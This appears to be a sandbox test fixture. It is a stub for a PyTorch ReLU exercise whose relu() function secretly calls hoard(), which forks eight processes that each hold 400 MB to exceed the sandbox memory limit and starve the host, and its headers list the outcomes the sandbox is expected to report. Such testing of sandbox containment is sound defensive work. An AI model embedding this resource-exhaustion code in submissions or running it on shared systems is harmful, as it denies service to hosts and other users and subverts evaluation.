# attack: allocate in many processes, each under the per-process address-space limit, so that
# attack: together they hold several times the sandbox's memory (and starve the host)
# exercise: exercise2
# expect: not_attempted|memory|crashed|error|timeout
# host: no_leftovers
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")


def relu(x):
    # --- attack ---
    hoard()
    # --- end attack ---
    return ReLU.apply(x)


# --- attack ---
import ctypes
import os
import signal
import time


def hoard():
    for _ in range(8):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            ctypes.CDLL(None).prctl(15, b"{{MARK}}", 0, 0, 0)
            signal.alarm(30)
            block = b"\x01" * (400 * 1024 * 1024)  # 8 x 400 MB against a 2048 MB limit
            time.sleep(30 + len(block) * 0)
    print("armed", flush=True)
    time.sleep(1)


# --- end attack ---
